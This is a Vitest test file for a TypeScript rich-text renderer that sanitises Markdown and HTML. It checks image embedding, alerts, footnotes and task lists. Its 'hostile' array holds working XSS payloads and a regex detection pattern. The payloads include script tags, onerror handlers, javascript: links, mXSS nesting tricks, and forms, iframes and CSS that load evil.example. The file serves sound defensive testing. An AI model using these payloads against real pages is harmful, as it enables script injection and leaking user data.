import { describe, expect, it } from 'vitest'
import { RichText } from './rich-text.ts'

const lost: string[] = []
const png = { type: 'image/png', bytes: new Uint8Array([1, 2, 3]) }
const texts = {
  alertNote: '说明',
  alertTip: 'Tip',
  alertImportant: 'Important',
  alertWarning: 'A < B',
  alertCaution: 'Caution',
}
const rich = new RichText(
  texts,
  new Map([
    ['/pictures/1.png', png],
    ['/pictures/evil.svg', { type: 'image/svg+xml', bytes: new Uint8Array([60]) }],
  ]),
  (address) => lost.push(address),
)

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name=a><button>go</button></form>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<p style="background:url(https://evil.example);color:red;position:fixed">x</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="//evil.example/a.png"><img srcset="https://evil.example/a.png 1x">',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<p id="page" name="data" class="side">x</p>',
  '</script><script>alert(1)</script><!-- <script> -->',
  '[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>',
  '```html\n<script>alert(1)</script>\n```',
]

/** What a browser could run, load or mistake, once the text is HTML. */
const dangerous =
  /<(?:script|svg|math|iframe|object|embed|form|input|button|style|base|meta|link|template|noscript|!--)|\son\w+=|(?:href|src)="(?!https?:|mailto:|tel:|data:image\/(?:png|jpeg|gif|webp))|url\(|position|\sid=|\sname=|srcset/i

describe('RichText', () => {
  it.each(hostile)('makes %s harmless, as Markdown and as HTML', (text) => {
    expect(rich.markdown(text, 2)).not.toMatch(dangerous)
    expect(rich.html(text, 2)).not.toMatch(dangerous)
  })

  it('embeds the pictures it was handed and turns the others into links', () => {
    expect(rich.markdown('![logo](/pictures/1.png)', 2)).toContain(
      '<img src="data:image/png;base64,AQID" alt="logo" />',
    )
    const remote = rich.markdown('![chart](https://other.example/a.png)', 2)
    expect(remote).not.toContain('<img')
    expect(remote).toContain('href="https://other.example/a.png"')
    expect(remote).toContain('>chart</a>')
    expect(rich.markdown('![drawing](/pictures/evil.svg)', 2)).toContain('<em>drawing</em>')
    expect(lost).toEqual(expect.arrayContaining(['https://other.example/a.png', '/pictures/evil.svg']))
  })

  it('keeps what Markdown says', () => {
    const html = rich.markdown(
      '# One\n\n## Two\n\n- a\n- **b**\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n```json\n{"a": 1}\n```',
      2,
    )
    for (const part of ['<h2>One</h2>', '<h3>Two</h3>', '<strong>b</strong>', '<td>2</td>', 'class="language-json"'])
      expect(html).toContain(part)
  })

  it('keeps alerts with their titles, footnotes and task items as a reader without the interface sees them', () => {
    expect(rich.markdown('> [!NOTE]\n> Hi\n\n> [!warning]\n>\n> Careful', 2)).toBe(
      '<blockquote class="md-alert md-alert-note">\n<p class="md-alert-title"><strong>说明</strong></p>\n<p>Hi</p>\n</blockquote>\n' +
        '<blockquote class="md-alert md-alert-warning">\n<p class="md-alert-title"><strong>A &lt; B</strong></p>\n<p>Careful</p>\n</blockquote>\n',
    )
    expect(rich.markdown('Paid[^1].\n\n[^1]: On time.', 2)).toBe(
      '<p>Paid<sup class="md-footnote">1</sup>.</p>\n<hr />\n<ol class="md-footnotes">\n<li>\n<p>On time.</p>\n</li>\n</ol>\n',
    )
    expect(rich.markdown('- [x] done\n- [ ] open\n\n`[x] code`', 2)).toContain('<li>☑ done</li>\n<li>☐ open</li>')
    expect(rich.markdown('<blockquote class="md-alert side">x</blockquote><p class="md-alert">y</p>', 2)).toBe(
      '<blockquote class="md-alert">x</blockquote><p>y</p>',
    )
  })

  it('leaves plain words alone, and says nothing of a blank text', () => {
    expect(rich.markdown('订单号, unique', 2)).toBe('<p>订单号, unique</p>')
    expect(rich.markdown(' \n', 2)).toBe('')
  })
})
